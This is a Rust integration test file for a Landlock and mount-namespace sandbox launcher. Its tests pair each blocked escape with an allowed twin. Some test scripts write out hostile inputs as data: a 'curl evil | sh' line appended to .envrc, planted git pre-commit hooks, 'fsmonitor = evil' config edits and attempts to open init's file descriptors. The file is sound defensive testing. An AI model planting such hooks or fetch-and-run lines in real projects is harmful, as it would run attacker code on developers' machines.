//! The mount namespace and Landlock, tried from inside: every denial next to its allowed twin.

use std::io::{BufRead, BufReader, Read};
use std::path::Path;
use std::process::Stdio;

use integration::{explain, sh, stdout, Caller, TempDir, CALLERS};

#[test]
fn write_outside_writable_roots_fails_and_inside_succeeds() {
    for caller in CALLERS {
        // Under /var/tmp: its parent is the host's (read-only) /var/tmp, not the private /tmp.
        let work = TempDir::new_in("/var/tmp", "write");
        let out = sh(
            caller,
            &work.path,
            &[],
            "echo inside > inside.txt && echo wrote-inside; \
             for d in /etc /usr /var/tmp \"$(dirname \"$PWD\")\"; do \
               if echo x > \"$d/sl-escape-probe\" 2>/dev/null; then echo ESCAPED:$d; fi; done; \
             true",
        );
        assert!(out.status.success(), "{caller:?}: {}", explain(&out));
        assert!(
            stdout(&out).contains("wrote-inside"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert!(
            !stdout(&out).contains("ESCAPED"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert_eq!(
            std::fs::read_to_string(work.join("inside.txt")).unwrap(),
            "inside\n"
        );
        assert!(!std::path::Path::new("/etc/sl-escape-probe").exists());
        assert!(!std::path::Path::new("/var/tmp/sl-escape-probe").exists());
    }
}

#[test]
fn denied_path_is_unreadable_even_under_readable_root() {
    for caller in CALLERS {
        let work = TempDir::new("denyread");
        let secret = work.write("secrets/token", "s3cr3t");
        work.write("secrets/public", "hello");
        let out = sh(
            caller,
            &work.path,
            &["--deny-read", secret.to_str().unwrap()],
            "cat secrets/token; echo rc=$?; cat secrets/public",
        );
        let text = stdout(&out);
        assert!(!text.contains("s3cr3t"), "{caller:?}: {}", explain(&out));
        assert!(text.contains("rc=1"), "{caller:?}: {}", explain(&out));
        assert!(
            text.contains("hello"),
            "{caller:?}: the twin must stay readable: {}",
            explain(&out)
        );
    }
}

#[test]
fn denied_directory_is_empty_and_unreadable() {
    for caller in CALLERS {
        let work = TempDir::new("denydir");
        work.write("private/a", "A");
        work.write("open/b", "B");
        let out = sh(
            caller,
            &work.path,
            &["--deny-read", "private"],
            "ls private; echo rc=$?; cat private/a; cat open/b",
        );
        let text = stdout(&out);
        assert!(text.contains("rc=2"), "{caller:?}: {}", explain(&out));
        assert!(!text.contains('A'), "{caller:?}: {}", explain(&out));
        assert!(text.contains('B'), "{caller:?}: {}", explain(&out));
    }
}

#[test]
fn deny_write_inside_a_writable_tree_is_read_only() {
    for caller in CALLERS {
        let work = TempDir::new("denywrite");
        work.write("locked/file", "orig");
        work.mkdir("free");
        let out = sh(
            caller,
            &work.path,
            &["--deny-write", "locked"],
            "echo changed > locked/file; touch locked/new; echo ok > free/new && echo free-ok",
        );
        assert!(
            stdout(&out).contains("free-ok"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert_eq!(
            std::fs::read_to_string(work.join("locked/file")).unwrap(),
            "orig"
        );
        assert!(!work.join("locked/new").exists());
    }
}

#[test]
fn allow_write_outside_the_workdir_becomes_writable() {
    for caller in CALLERS {
        let work = TempDir::new("aw-work");
        let extra = TempDir::new_in("/var/tmp", "aw-extra");
        let other = TempDir::new_in("/var/tmp", "aw-other");
        let script = format!(
            "echo a > {0}/a && echo extra-ok; echo b > {1}/b 2>/dev/null || echo other-denied",
            extra.path.display(),
            other.path.display()
        );
        let out = sh(
            caller,
            &work.path,
            &["--allow-write", extra.path.to_str().unwrap()],
            &script,
        );
        let text = stdout(&out);
        assert!(text.contains("extra-ok"), "{caller:?}: {}", explain(&out));
        assert!(
            text.contains("other-denied"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert!(extra.join("a").exists());
        assert!(!other.join("b").exists());
    }
}

#[test]
fn symlink_in_writable_tree_pointing_outside_gives_no_write_access() {
    for caller in CALLERS {
        let work = TempDir::new("symlink");
        let outside = TempDir::new_in("/var/tmp", "symlink-target");
        std::os::unix::fs::symlink(&outside.path, work.join("link")).unwrap();
        let out = sh(
            caller,
            &work.path,
            &[],
            "echo x > link/escaped; echo rc=$?; ls link >/dev/null && echo can-read; echo y > real && echo twin-ok",
        );
        let text = stdout(&out);
        assert!(
            text.contains("rc=1") || text.contains("rc=2"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert!(text.contains("can-read"), "{caller:?}: {}", explain(&out));
        assert!(text.contains("twin-ok"), "{caller:?}: {}", explain(&out));
        assert!(!outside.join("escaped").exists());
    }
}

#[test]
fn git_commit_works_while_hooks_and_config_stay_read_only() {
    for caller in CALLERS {
        let work = TempDir::new("git");
        let git = |args: &[&str]| {
            let st = std::process::Command::new("git")
                .arg("-c")
                .arg(format!("safe.directory={}", work.path.display()))
                .args(args)
                .current_dir(&work.path)
                .env("HOME", &work.path)
                .output()
                .unwrap();
            assert!(st.status.success(), "git {args:?}: {}", explain(&st));
        };
        git(&["init", "-q"]);
        git(&[
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@e",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "first",
        ]);
        work.give_to_sandbox_user(&work.path);
        let config_before = std::fs::read_to_string(work.join(".git/config")).unwrap();
        let out = sh(
            caller,
            &work.path,
            &[],
            "echo 'echo pwned' > .git/hooks/pre-commit; echo hook-rc=$?; \
             echo '[core] hooksPath = /tmp' >> .git/config; echo config-rc=$?; \
             mv .git .git-moved 2>/dev/null; echo swap-rc=$?; \
             echo data > file && git add file && \
             git -c user.name=t -c user.email=t@e commit -q -m second && echo committed",
        );
        let text = stdout(&out);
        assert!(text.contains("committed"), "{caller:?}: {}", explain(&out));
        assert!(!text.contains("hook-rc=0"), "{caller:?}: {}", explain(&out));
        assert!(
            !text.contains("config-rc=0"),
            "{caller:?}: {}",
            explain(&out)
        );
        // Swapping a fresh .git in under the protected name is refused too.
        assert!(!text.contains("swap-rc=0"), "{caller:?}: {}", explain(&out));
        assert!(!work.join(".git-moved").exists());
        assert!(!work.join(".git/hooks/pre-commit").exists());
        assert_eq!(
            std::fs::read_to_string(work.join(".git/config")).unwrap(),
            config_before
        );
        let log = std::process::Command::new("git")
            .args([
                "-c",
                &format!("safe.directory={}", work.path.display()),
                "log",
                "--oneline",
            ])
            .current_dir(&work.path)
            .output()
            .unwrap();
        assert!(stdout(&log).contains("second"), "{}", explain(&log));
    }
}

#[test]
fn host_root_is_unreachable_and_tmp_is_private() {
    for caller in CALLERS {
        let work = TempDir::new("root");
        let host_marker = TempDir::new("hostonly");
        let script = format!(
            "test -e /oldroot && echo OLDROOT; test -e /newroot && echo NEWROOT; \
             test -e {} && echo HOST-TMP-VISIBLE; \
             awk '$5==\"/\"' /proc/self/mountinfo | wc -l; \
             echo t > /tmp/private && echo tmp-ok",
            host_marker.path.display()
        );
        let out = sh(caller, &work.path, &[], &script);
        let text = stdout(&out);
        assert!(
            !text.contains("OLDROOT") && !text.contains("NEWROOT"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert!(
            !text.contains("HOST-TMP-VISIBLE"),
            "{caller:?}: {}",
            explain(&out)
        );
        assert!(
            text.lines().any(|l| l.trim() == "1"),
            "{caller:?}: one root mount: {}",
            explain(&out)
        );
        assert!(text.contains("tmp-ok"), "{caller:?}: {}", explain(&out));
        assert!(!std::path::Path::new("/tmp/private").exists());
    }
}

#[test]
fn host_sockets_in_run_are_hidden_unless_handed_in() {
    // Create a listening socket under /run like docker.sock or the D-Bus bus.
    let dir = TempDir::new_in("/run", "sock");
    let sock_path = dir.join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&sock_path).unwrap();
    dir.give_to_sandbox_user(&sock_path);
    for caller in CALLERS {
        let listener = listener.try_clone().unwrap();
        let serve = std::thread::spawn(move || {
            if let Ok((mut s, _)) = listener.accept() {
                use std::io::Write;
                let _ = s.write_all(b"hello-from-host\n");
            }
        });
        let work = TempDir::new("sockwork");
        let probe = format!(
            "test -e {} && echo VISIBLE || echo hidden",
            sock_path.display()
        );
        let out = sh(caller, &work.path, &[], &probe);
        assert!(
            stdout(&out).contains("hidden"),
            "{caller:?}: {}",
            explain(&out)
        );
        let talk = format!(
            "python3 -c 'import socket;s=socket.socket(socket.AF_UNIX);s.connect(\"{}\");print(s.recv(100).decode())'",
            sock_path.display()
        );
        let out = sh(
            caller,
            &work.path,
            &["--allow-unix-socket", sock_path.to_str().unwrap()],
            &talk,
        );
        assert!(
            stdout(&out).contains("hello-from-host"),
            "{}",
            explain(&out)
        );
        serve.join().unwrap();
    }
}

#[test]
fn only_standard_streams_cross_into_the_sandbox() {
    use std::os::unix::process::CommandExt;
    for caller in CALLERS {
        let work = TempDir::new("fds");
        let host_file = work.write("host-file", "");
        let f = std::fs::OpenOptions::new()
            .append(true)
            .open(&host_file)
            .unwrap();
        let raw = std::os::fd::AsRawFd::as_raw_fd(&f);
        let run = |opts: &[&str]| {
            let mut args = vec!["whole-process"];
            args.extend_from_slice(opts);
            args.extend_from_slice(&["--", "/bin/sh", "-c", "echo leaked >&7; echo rc=$?"]);
            let mut cmd = integration::command(caller, &work.path, &args);
            // SAFETY: dup2 in the child before exec; async-signal-safe.
            unsafe {
                cmd.pre_exec(move || integration::place_fd(raw, 7));
            }
            cmd.output().unwrap()
        };
        let out = run(&[]);
        assert!(
            stdout(&out).contains("rc=2") || stdout(&out).contains("rc=1"),
            "{}",
            explain(&out)
        );
        assert_eq!(
            std::fs::read_to_string(&host_file).unwrap(),
            "",
            "{caller:?}"
        );
        // The twin: named explicitly, it crosses.
        let out = run(&["--preserve-fd", "7"]);
        assert!(stdout(&out).contains("rc=0"), "{}", explain(&out));
        assert_eq!(
            std::fs::read_to_string(&host_file).unwrap(),
            "leaked\n",
            "{caller:?}"
        );
    }
}

#[test]
fn protected_paths_stay_read_only_and_missing_ones_cannot_be_created() {
    for caller in CALLERS {
        let work = TempDir::new("protected");
        work.write(".envrc", "export SAFE=1\n");
        let out = sh(
            caller,
            &work.path,
            &[],
            r#"echo 'curl evil | sh' >> .envrc 2>/dev/null || echo envrc-refused
mkdir .vscode 2>/dev/null || echo vscode-refused
echo '{}' > .mcp.json 2>/dev/null || echo mcp-refused
mkdir .git && echo mkdir-git-ok
echo '[core] fsmonitor = evil' > .git/config 2>/dev/null || echo gitconfig-refused
mkdir .git/hooks && echo 'touch pwned' > .git/hooks/pre-commit 2>/dev/null || echo hooks-refused
rm -rf .git && echo 'gitdir: elsewhere' > .git 2>/dev/null || echo gitfile-refused
ln -s .claude link && echo symlink-named-link-ok
mkdir link/x 2>/dev/null || echo through-symlink-refused
mkdir d && echo x > d/f && mv d .idea 2>/dev/null || echo rename-refused
ln d/f .devcontainer 2>/dev/null || echo hardlink-refused
python3 -c '
import os
fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
try:
    os.link(f"/proc/self/fd/{fd}", ".factory", follow_symlinks=True); print("TMPFILE-LINKED")
except OSError: print("tmpfile-refused")
'
cd d && echo x > ../.sandbox-launch 2>/dev/null || echo relative-refused
cd .. && echo ok > normal.txt && mkdir -p src/new && echo ok > src/new/file && mv normal.txt moved.txt && echo twins-ok
exec 3>three.txt; echo via-dev-fd > /dev/fd/3; cat three.txt
python3 -c '
import os
for p in ["/proc/1/fd/0", "/dev/./fd/1"]:
    try: os.open(p, os.O_CREAT | os.O_WRONLY); print("STOLE", p)
    except OSError: print("init-fds-refused")
'
mkfifo ff && (cat ff > fifo-out.txt &) && echo through-fifo > ff && sleep 0.3 && cat fifo-out.txt
"#,
        );
        let text = stdout(&out);
        for want in [
            "envrc-refused",
            "vscode-refused",
            "mcp-refused",
            "mkdir-git-ok",
            "gitconfig-refused",
            "hooks-refused",
            "gitfile-refused",
            "symlink-named-link-ok",
            "through-symlink-refused",
            "rename-refused",
            "hardlink-refused",
            "tmpfile-refused",
            "relative-refused",
            "twins-ok",
            "via-dev-fd",
            "through-fifo",
        ] {
            assert!(text.contains(want), "{caller:?}: {want}: {}", explain(&out));
        }
        assert_eq!(
            std::fs::read_to_string(work.join(".envrc")).unwrap(),
            "export SAFE=1\n"
        );
        for p in [
            ".vscode",
            ".mcp.json",
            ".git",
            ".idea",
            ".devcontainer",
            ".factory",
            ".sandbox-launch",
            ".claude",
        ] {
            assert!(
                std::fs::symlink_metadata(work.join(p)).is_err() || p == ".git",
                "{caller:?}: {p} was created"
            );
        }
        assert!(!work.join(".git/config").exists() && !work.join(".git/hooks/pre-commit").exists());
        // The allowed twins reached the host.
        assert_eq!(
            std::fs::read_to_string(work.join("moved.txt")).unwrap(),
            "ok\n"
        );
        assert_eq!(
            std::fs::read_to_string(work.join("src/new/file")).unwrap(),
            "ok\n"
        );
        assert!(!integration::stderr(&out).contains("was created inside the sandbox"));
    }
}

#[test]
fn truncating_a_file_outside_writable_roots_fails_and_inside_succeeds() {
    // A file the sandbox's user may write by its mode, outside every writable tree: truncate(2)
    // and an O_TRUNC open both fail; the twin in the working directory is truncated.
    for caller in CALLERS {
        let work = TempDir::new_in("/var/tmp", "trunc");
        let victim = std::path::PathBuf::from(format!("{}-victim", work.path.display()));
        std::fs::write(&victim, "keep me\n").unwrap();
        std::fs::set_permissions(&victim, std::os::unix::fs::PermissionsExt::from_mode(0o666))
            .unwrap();
        work.write("mine.txt", "truncate me\n");
        let script = format!(
            r#"python3 - <<'PY'
import os
victim = "{}"
for name, f in [
    ("truncate", lambda: os.truncate(victim, 0)),
    ("o_trunc", lambda: os.close(os.open(victim, os.O_WRONLY | os.O_TRUNC))),
]:
    try:
        f(); print(name, "ESCAPED")
    except OSError as e:
        print(name, "refused", e.errno)
os.truncate("mine.txt", 0); print("inside truncated", os.path.getsize("mine.txt"))
PY"#,
            victim.display()
        );
        let out = sh(caller, &work.path, &[], &script);
        let text = stdout(&out);
        let _ = std::fs::remove_file(&victim);
        assert!(
            text.contains("inside truncated 0"),
            "{caller:?}: {}",
            explain(&out)
        );
        for name in ["truncate", "o_trunc"] {
            assert!(
                text.contains(&format!("{name} refused")),
                "{caller:?} {name}: {}",
                explain(&out)
            );
        }
        assert!(!text.contains("ESCAPED"), "{caller:?}: {}", explain(&out));
    }
}

/// Start `sh -c 'read line'` in the sandbox with `-v`, and once the launcher says it verified
/// the sandbox (its look at the protected paths is taken before), run `meanwhile` on the host,
/// then let the program end. The launcher's stderr, whole.
fn while_the_program_waits(caller: Caller, work: &Path, meanwhile: impl FnOnce()) -> String {
    let mut child = integration::command(
        caller,
        work,
        &[
            "whole-process",
            "-v",
            "--",
            "/bin/sh",
            "-c",
            "read line; echo went-on",
        ],
    )
    .stdin(Stdio::piped())
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .expect("start sandbox-launch");
    let mut err = BufReader::new(child.stderr.take().unwrap());
    let mut seen = String::new();
    while !seen.contains("sandbox-launch: verified:") {
        if err.read_line(&mut seen).unwrap() == 0 {
            break;
        }
    }
    meanwhile();
    integration::feed_stdin(&mut child, b"go\n");
    err.read_to_string(&mut seen).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success() && stdout(&out).contains("went-on"),
        "{caller:?}: {}\n{seen}",
        explain(&out)
    );
    seen
}

#[test]
fn a_protected_path_that_appears_during_the_run_is_reported_at_the_end() {
    // The second line behind the guard, for what appears by a route the guard does not see (a
    // host process): `.cursor/mcp.json`, two levels below the nearest directory that exists.
    // The directories above the protected paths were made over two seconds before the launch,
    // so they are stamped and only looked into when changed. Its twin: nothing appears,
    // nothing is reported.
    let dirs: Vec<(Caller, TempDir, TempDir)> = CALLERS
        .iter()
        .map(|c| {
            let made = TempDir::new_in("/var/tmp", "appears");
            let twin = TempDir::new_in("/var/tmp", "appears-not");
            (*c, made, twin)
        })
        .collect();
    std::thread::sleep(std::time::Duration::from_millis(2200));
    for (caller, made, twin) in &dirs {
        let err = while_the_program_waits(*caller, &made.path, || {
            made.write(".cursor/mcp.json", "{\"mcpServers\": {}}\n");
        });
        let want = format!(
            "{} was created inside the sandbox",
            made.join(".cursor/mcp.json").display()
        );
        assert!(err.contains(&want), "{caller:?}: {want}:\n{err}");
        let err = while_the_program_waits(*caller, &twin.path, || {});
        assert!(
            !err.contains("was created inside the sandbox"),
            "{caller:?}:\n{err}"
        );
    }
}
